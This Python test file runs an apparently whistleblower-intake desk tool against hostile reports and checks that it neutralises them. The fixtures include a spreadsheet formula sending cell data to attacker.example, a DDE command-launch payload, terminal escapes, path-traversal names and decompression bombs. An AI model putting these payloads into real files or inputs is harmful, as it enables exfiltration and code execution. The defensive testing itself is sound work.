"""A corpus of hostile reports through every desk command (issue 22; the red-team review's findings 2-4, 8-12).

What a reporter controls is everything inside an envelope encrypted to the Office's public key. The
corpus holds each class the review found: decompression bombs of each format, control, surrogate
and bidirectional characters and terminal escapes, formula cells, script attachments declared as
PDFs, names of 255 characters, an envelope to the primary key only, and junk that decrypts. It goes
through ``pull``, ``show`` (text, JSON piped, JSON on a terminal), ``extract``, ``export``, ``notice``,
``report`` and its CSV, and ``quarantine``, all real commands in subprocesses: each finishes,
nothing crashes, each is in the audit trail, and a command killed half-way leaves no plaintext.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import signal
import subprocess
import sys
import time
import unicodedata
from csv import reader
from pathlib import Path

import pexpect
import pytest
from docx import Document
from PIL import ExifTags, Image

from intake_function import objects
from intake_function.store import open_store
from office.safe_text import INERT_EXTENSIONS, MAX_NAME_CHARS
from tests.conftest import age_decrypt, age_encrypt
from tests.desk import hostile_files
from tests.desk.conftest import data_dir, listed, office

HIDDEN = ("Cc", "Cf", "Cs", "Co", "Cn")

TEXT = {
    "persons_involved": "Giám đốc Trần nhận hối lộ 2 tỷ đồng",
    "description": "Mô tả\x0b dòng\x0c trang\x01 nul\x00 tách\ud800 xoá\x1b[2J\x1b]0;hacked\x07 \u202egnp.exe \x9bX",
    "place": '=HYPERLINK("http://attacker.example/?x="&A1,"bấm")',
    "occurred": "+cmd|' /C calc'!A0",
    "reporter": {"name": "Nguyễn\x01Văn\x0bA", "address": "Số 1\x00 đường\ud800 X"},
}
LONG_NAMES = ["x" * 251 + ".pdf", "ệ" * 255, "CON", "../../../../tmp/pwned.txt", "hoa-don\u202egpj.exe"]


def _put_file(store, data: bytes, name: str, kind: str, *recipients: str) -> dict:
    sealed = age_encrypt(data, *recipients)
    _, key = objects.new_attachment_key()
    store.put(key, sealed)
    return {"key": key, "name": name, "type": kind, "size": len(data), "sha256": hashlib.sha256(sealed).hexdigest()}


def _put_report(store, plaintext: bytes, *recipients: str) -> str:
    _, key = objects.new_inbox_key()
    store.put(key, age_encrypt(plaintext, *recipients))
    time.sleep(0.002)  # inbox keys are ULIDs: one millisecond apart keeps the cases in this order
    return key


def _document(files: list[dict], **fields) -> bytes:
    document = {"schema": "report/1", "category": "corruption", "description": "Có tệp đính kèm.", **fields}
    if files:
        document["attachments"] = files
    return json.dumps(document).encode()


def _photo() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Artist] = "Nguoi Gui"
    exif[ExifTags.Base.GPSInfo] = {1: "N", 2: (10.0, 22.0, 30.0), 3: "E", 4: (105.0, 26.0, 15.0)}
    out = io.BytesIO()
    Image.new("RGB", (64, 32), (200, 30, 30)).save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


@pytest.fixture(scope="module")
def corpus(tmp_path_factory, office_key, second_key):
    """A register with both keys, fed one pull of the hostile corpus; the cases by what they hold."""
    root = tmp_path_factory.mktemp("hostile")
    store = open_store((root / "store").as_uri())
    env = {
        "OFFICE_DATA": str(root / "desk"),
        "OFFICE_IDENTITY": str(office_key[0]),
        "OFFICE_STORE": store.url,
        "OFFICE_USER": "can-bo-van-phong",
        "OFFICE_RECIPIENTS": f"{office_key[1]},{second_key[1]}",
    }
    office("init", env=env)
    both = (office_key[1], second_key[1])
    # The review's \r used as JSON whitespace: on a terminal it would overwrite persons_involved.
    texts = json.dumps({"schema": "report/1", "category": "corruption", **TEXT}, separators=(",\r", ":"))
    _put_report(store, texts.encode(), *both)
    bombs = [
        _put_file(store, hostile_files.gif_bomb(), "anh.gif", "image/gif", *both),
        _put_file(store, hostile_files.png_bomb(8200, 8200), "so-do.png", "image/png", *both),
        _put_file(store, hostile_files.docx_bomb(64 * hostile_files.MIB), "to-trinh.docx", "application/zip", *both),
        _put_file(store, hostile_files.pdf_bomb(64 * hostile_files.MIB), "bien-ban.pdf", "application/pdf", *both),
        _put_file(store, _photo(), "hien-truong.jpg", "image/jpeg", *both),
    ]
    _put_report(store, _document(bombs), *both)
    scripts = [_put_file(store, data, name, "application/pdf", *both) for name, data in hostile_files.SCRIPTS.items()]
    scripts += [_put_file(store, b"%PDF-1.4 not really", name, "application/pdf", *both) for name in LONG_NAMES]
    _put_report(store, _document(scripts), *both)
    primary_only = [_put_file(store, b"chi khoa chinh", "ghi-chu.txt", "text/plain", office_key[1])]
    _put_report(store, _document(primary_only, description="Chỉ mã hóa cho khóa chính."), office_key[1])
    junk = _put_report(store, b"{" + b" " * 4000 + b"}", *both)
    pulled = office("pull", env=env).stderr.decode()
    numbers = [row["number"] for row in listed(env)]
    return {
        "env": env,
        "store": store,
        "pulled": pulled,
        "junk": junk,
        "texts": numbers[0],
        "bombs": numbers[1],
        "scripts": numbers[2],
        "primary_only": numbers[3],
        "plaintext": texts.encode(),
        "root": root,
        "backup": second_key[0],
    }


def trail(env: dict[str, str]) -> list[dict]:
    return json.loads(office("audit", "list", "--format", "json", env=env).stdout)


def hidden_in(text: str) -> list[str]:
    return [c for c in text if unicodedata.category(c) in HIDDEN and c not in "\n"]


def test_pull_seals_every_report_to_every_key_and_sets_junk_aside_once(corpus, office_key):
    env, store = corpus["env"], corpus["store"]
    assert len(listed(env)) == 4, corpus["pulled"]
    said = corpus["pulled"]
    assert "Cách ly / quarantined: 1" in said
    assert f"sent to fewer keys than in force, now sealed to all: {corpus['primary_only']}" in said
    # The backup key alone opens what the sender encrypted to the primary key only: the case and its file.
    backup = {**env, "OFFICE_IDENTITY": str(corpus["backup"])}
    assert "Chỉ mã hóa cho khóa chính." in office("show", corpus["primary_only"], env=backup).stdout.decode()
    local = data_dir(env) / "store"
    for path in (local / "inbox").iterdir():  # the reference age CLI agrees, with either key
        assert age_decrypt(path.read_bytes(), corpus["backup"]) and age_decrypt(path.read_bytes(), office_key[0])
    for path in (local / "attachments").iterdir():
        assert age_decrypt(path.read_bytes(), corpus["backup"])
    (entry,) = [e for e in trail(env) if e["action"] == "register" and e["case"] == corpus["primary_only"]]
    assert entry["details"]["recipients_sent"] == 1 and entry["details"]["resealed_to_keys_in_force"] == 2

    # Examined once: the next pull neither downloads nor decrypts it again.
    again = office("pull", env=env).stderr.decode()
    assert "left aside: 1" in again and "quarantined: " not in again
    listing = office("quarantine", env=env).stdout.decode()
    size = len(store.get(corpus["junk"]))
    assert corpus["junk"] in listing and f"{size} bytes" in listing
    refused = office("quarantine", "--drop", corpus["junk"], env=env, ok=False)
    assert refused.returncode == 1 and "--reason" in refused.stderr.decode()
    assert corpus["junk"] in [info.key for info in store.list("inbox/")]
    office("quarantine", "--drop", corpus["junk"], "--reason", "rác, không phải phản ánh", env=env)
    assert corpus["junk"] not in [info.key for info in store.list("inbox/")]
    assert (data_dir(env) / "quarantine" / corpus["junk"]).stat().st_size == size  # the local copy is kept
    assert "removed" in office("quarantine", env=env).stdout.decode()
    (dropped,) = [e for e in trail(env) if e["action"] == "quarantine"]
    assert dropped["reason"] == "rác, không phải phản ánh" and dropped["details"]["key"] == corpus["junk"]
    assert "quarantined" not in office("pull", env=env).stderr.decode()  # gone from the store: nothing to set aside


def test_show_never_lets_the_reporters_bytes_reach_a_terminal(corpus):
    env, number = corpus["env"], corpus["texts"]
    shown = office("show", number, env=env).stdout.decode()
    assert hidden_in(shown) == [] and "\\u001b[2J" in shown and "\\ud800" in shown and "\\u000b" in shown
    piped = office("show", number, "--format", "json", "--reason", "chuyển công cụ khác", env=env).stdout
    assert piped == corpus["plaintext"]  # into a file or a pipe: exactly as submitted

    terminal = pexpect.spawn(
        sys.executable,
        ["-m", "office", "show", number, "--format", "json", "--reason", "đọc trên màn hình"],
        env={**os.environ, **env},
        timeout=60,
    )
    terminal.expect(pexpect.EOF)
    screen = terminal.before.decode().replace("\r\n", "\n")  # the terminal's own line ends
    assert "\r" not in screen and "\x1b" not in screen and hidden_in(screen) == []
    assert json.loads(screen) == json.loads(corpus["plaintext"])  # the same document, every escape valid JSON
    actions = [(e["action"], e["case"]) for e in trail(env)]
    assert ("view", number) in actions and actions.count(("view-full", number)) == 2


def test_extract_writes_safe_names_warns_of_scripts_and_is_all_or_nothing(corpus, tmp_path):
    env, number = corpus["env"], corpus["scripts"]
    out = tmp_path / "tep"
    result = office("extract", number, "--out", str(out), env=env)
    files = sorted(out.iterdir())
    assert len(files) == len(hostile_files.SCRIPTS) + len(LONG_NAMES)
    for path in files:
        assert path.parent == out and path.suffix.lower() in INERT_EXTENSIONS, path.name
        assert len(path.name) <= MAX_NAME_CHARS + 3 and len(path.name.encode()) <= 255, path.name
    names = [p.name for p in files]
    assert "01-bang-chung.hta.txt" in names and "09-bang.csv.txt" in names and "06-lien-ket.url.txt" in names
    assert any(n.startswith("13-xxxx") and n.endswith("~.pdf") for n in names)  # 255 characters, shortened
    assert "15-_CON.bin" in names and "16-_.._.._.._tmp_pwned.txt" in names and "17-hoa-don_gpj.exe.bin" in names
    warnings = result.stderr.decode()
    assert warnings.count("CẢNH BÁO") >= len(hostile_files.SCRIPTS) and "application/pdf" in warnings
    (entry,) = [e for e in trail(env) if e["action"] == "extract" and e["case"] == number]
    assert entry["details"]["files"] == len(files)

    # A folder that is not empty is refused before anything is decrypted or written.
    taken = office("extract", number, "--out", str(out), env=env, ok=False)
    assert taken.returncode == 1 and "không trống" in taken.stderr.decode()
    assert len(list(out.iterdir())) == len(files)


def test_show_says_what_the_attachments_really_are(corpus):
    shown = office("show", corpus["scripts"], env=corpus["env"]).stdout.decode()
    assert "khác khai báo (application/pdf): nội dung là tệp lệnh (script)" in shown
    assert "mở tệp này có thể chạy mã lệnh" in shown


def test_export_of_bombs_finishes_within_its_limits_and_keeps_the_case(corpus, tmp_path):
    env, number = corpus["env"], corpus["bombs"]
    out = tmp_path / "goi"
    result = office("export", number, "--out", str(out), env=env)
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    by_file = {entry["position"]: entry for entry in manifest["files"]}
    assert [by_file[n]["status"] for n in range(1, 6)] == [
        "unverified",
        "unverified",
        "unverified",
        "cleaned",
        "cleaned",
    ]
    assert "điểm ảnh" in by_file[1]["notes"][0] and "điểm ảnh" in by_file[2]["notes"][0]
    assert "tỉ lệ nén" in by_file[3]["notes"][0]
    assert {p.name for p in (out / "tai-lieu").iterdir()} == {"tep-04.pdf", "tep-05.jpg"}
    assert b"GPS" not in (out / "tai-lieu" / "tep-05.jpg").read_bytes()
    assert (out / "tai-lieu" / "tep-04.pdf").stat().st_size < 64 * 1024  # copied, never inflated
    assert "CẢNH BÁO / WARNING: 3" in result.stderr.decode()
    (entry,) = [e for e in trail(env) if e["action"] == "export" and e["case"] == number]
    assert entry["details"]["unverified"] == 3


def test_export_keeps_scripts_out_and_runs_nothing_when_asked_for_them(corpus, tmp_path):
    env, number = corpus["env"], corpus["scripts"]
    out = tmp_path / "goi"
    office("export", number, "--out", str(out), "--include-unverified", env=env)
    assert not (out / "tai-lieu").exists() or all(p.suffix == ".txt" for p in (out / "tai-lieu").iterdir())
    kept = sorted(p.name for p in (out / "unverified").iterdir())
    assert all(Path(name).suffix in (".txt", ".bin") for name in kept), kept
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    assert {e["status"] for e in manifest["files"][:8]} == {"unverified"}
    assert manifest["files"][8]["file"] == "tai-lieu/tep-09.txt"  # the CSV: plain text, named .txt
    assert all(e["declaration"] for e in manifest["files"][:12]), "every one was declared application/pdf"


def test_export_notice_and_report_hold_the_text_escaped(corpus, tmp_path):
    env, number = corpus["env"], corpus["texts"]
    out = tmp_path / "goi"
    office("export", number, "--out", str(out), env=env)
    text = (out / f"ho-so-{number}.txt").read_text(encoding="utf-8")
    assert hidden_in(text.replace("\t", "")) == [] and "\\u0001" in text and "\\ud800" in text
    words = "\n".join(p.text for p in Document(str(out / f"ho-so-{number}.docx")).paragraphs)
    assert "\\u000b" in words and "\\u202e" in words

    office("classify", number, "--competence", "within", env=env)
    office("accept", number, "--decision", "QĐ 1/2026", "--conditions-met", env=env)
    notice = tmp_path / "thong-bao.docx"
    office("notice", number, "--kind", "accepted", "--with-identity", "--reason", "gửi thông báo", "--out",
           str(notice), env=env)  # fmt: skip
    written = "\n".join(p.text for p in Document(str(notice)).paragraphs)
    assert "Nguyễn\\u0001Văn\\u000bA" in written
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary left
    assert any(e["action"] == "reveal" and e["details"]["purpose"] == "notice" for e in trail(env))

    office("assign", number, "--unit", '=HYPERLINK("http://attacker.example")', "--head", "Ông A", env=env)
    csv = tmp_path / "so-lieu.csv"
    office("report", "--period", "2027-H1", "--provisional", "--out", str(csv), env=env)
    office("report", "--period", "2027-H1", "--provisional", "--out", str(tmp_path / "bao-cao.docx"), env=env)
    rows = list(reader(io.StringIO(csv.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert any("'=HYPERLINK" in cell for row in rows for cell in row)  # the unit's name, neutralised
    for row in rows:
        for cell in row:
            assert not cell or cell[:1] not in "=+-@\t\r" or re.fullmatch(r"-|[-+]?\d[\d.,]*%?", cell), row
    assert sum(e["action"] == "report" for e in trail(env)) == 2


def _children(pid: int) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
            except OSError:
                continue
            if int(stat.rsplit(")", 1)[1].split()[1]) == pid:
                found.append(int(entry.name))
    return found


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads the process table from /proc")
def test_a_killed_export_leaves_no_plaintext_and_no_cleaner(corpus, tmp_path):
    """kill -9 while the cleaner works, then kill -9 while the package is written: nothing stays behind."""
    env = corpus["env"]
    store = corpus["store"]
    both = env["OFFICE_RECIPIENTS"].split(",")
    heavy = [_put_file(store, hostile_files.noise_png(2400, 2400), "anh-lon.png", "image/png", *both)]
    _put_report(store, _document(heavy, description="Ảnh lớn."), *both)
    office("pull", env=env)
    number = listed(env)[-1]["number"]
    out = tmp_path / "goi"
    command = [sys.executable, "-m", "office", "export", number, "--out", str(out)]
    exporting = subprocess.Popen(command, env={**os.environ, **env}, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while not (cleaners := _children(exporting.pid)) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert cleaners, "the cleaner's child process never started"
    exporting.send_signal(signal.SIGKILL)
    exporting.wait()
    for _ in range(100):  # the cleaner dies with the desk (PR_SET_PDEATHSIG)
        if not any(Path(f"/proc/{pid}").exists() for pid in cleaners):
            break
        time.sleep(0.05)
    assert not any(Path(f"/proc/{pid}").exists() for pid in cleaners)
    assert list(tmp_path.iterdir()) == []  # nothing was written: the audit entry comes first, and it did not
    assert not [e for e in trail(env) if e["action"] == "export" and e["case"] == number]

    # Killed while writing: the temporary folder is removed by the next command, which says so.
    script = (
        "import os, signal, sys\n"
        "from pathlib import Path\n"
        "from office.export import folder\n"
        "from office.register.desk import open_desk\n"
        "desk = open_desk(Path(sys.argv[1]))\n"
        "with folder.building(desk, Path(sys.argv[2]), lambda: None, {'command': 'export', 'case': sys.argv[3]})"
        " as temporary:\n"
        "    (temporary / 'ho-so.txt').write_text('bí mật')\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
    )
    killed = subprocess.run(
        [sys.executable, "-c", script, env["OFFICE_DATA"], str(out), number], env={**os.environ, **env}
    )
    assert killed.returncode == -signal.SIGKILL
    (left,) = list(tmp_path.iterdir())
    assert left.name.endswith(".partial") and (left / "ho-so.txt").read_text() == "bí mật"
    office("list", env=env)
    assert list(tmp_path.iterdir()) == []
    (swept,) = [e for e in trail(env) if e["action"] == "cleanup"]
    assert swept["case"] == number and swept["details"]["path"] == str(left)
